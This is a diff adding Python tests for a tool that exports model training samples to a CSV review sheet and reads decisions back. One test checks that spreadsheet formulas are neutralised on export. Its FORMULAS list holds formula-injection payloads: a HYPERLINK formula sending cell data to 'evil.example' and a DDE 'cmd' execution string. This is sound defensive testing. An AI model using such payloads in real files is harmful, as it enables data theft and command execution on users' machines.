@@ -62,3 +62,43 @@ def test_bad_decisions_are_reported_by_line(run_dir: Path, tmp_path: Path) -> No
     text = str(err.value)
     assert f"{sheet}:2: decision 'maybe'" in text and f"{sheet}:3: decision 'edit' needs" in text
     assert f"{sheet}:4: id 'zz'" in text and not (run_dir / REVIEWED).exists()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1", "\r=1", "'=already quoted", "''-twice", "'plain apostrophe", "x = 1"]
+
+
+def test_export_neutralises_formulas_and_import_restores_the_exact_text(run_dir: Path, tmp_path: Path) -> None:
+    from distill.review import FORMULA_START
+
+    rows = [{"id": f"s{i}", "prompt": [{"role": "user", "content": text}],
+             "completion": [{"role": "assistant", "content": text}], "meta": {"answer_id": f"a{i}"}}
+            for i, text in enumerate(FORMULAS)]
+    (run_dir / "sft.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    (run_dir / "answers.jsonl").write_text("".join(json.dumps({"id": f"a{i}", "answer": text}) + "\n"
+                                                   for i, text in enumerate(FORMULAS)), encoding="utf-8")
+    sheet = tmp_path / "review.csv"
+    export(run_dir, sheet)
+    exported = list(csv.DictReader(sheet.open(encoding="utf-8", newline="")))
+    cells = [r[c] for r in exported for c in ("id", "prompt", "original", "revision")]
+    assert not [c for c in cells if c[:1] in FORMULA_START]  # no cell a spreadsheet would execute
+    assert exported[0]["revision"] == "'" + FORMULAS[0] and exported[9]["revision"] == "x = 1"
+    assert exported[6]["revision"] == "''=already quoted" and exported[8]["revision"] == "'plain apostrophe"
+    for row in exported:  # the reviewer edits every row, pasting the exported revision back
+        row["decision"], row["edited"] = "edit", row["revision"]
+    with sheet.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(exported[0]))
+        writer.writeheader()
+        writer.writerows(exported)
+    import_decisions(run_dir, sheet)
+    reviewed = [json.loads(line) for line in (run_dir / REVIEWED).read_text().splitlines()]
+    restored = [r["completion"][0]["content"] for r in reviewed]
+    assert restored == [text.strip() for text in FORMULAS]  # an edit is stripped, as before
+
+
+def test_an_id_twice_is_an_error_naming_both_lines(run_dir: Path, tmp_path: Path) -> None:
+    sheet = tmp_path / "r.csv"
+    sheet.write_text("id,decision,edited\ns0,accept,\ns1,accept,\ns0,edit,other text\n", encoding="utf-8")
+    with pytest.raises(InputError, match=f"{sheet}:4: duplicate id 's0' \\(first on line 2\\)"):
+        import_decisions(run_dir, sheet)
+    assert not (run_dir / REVIEWED).exists()
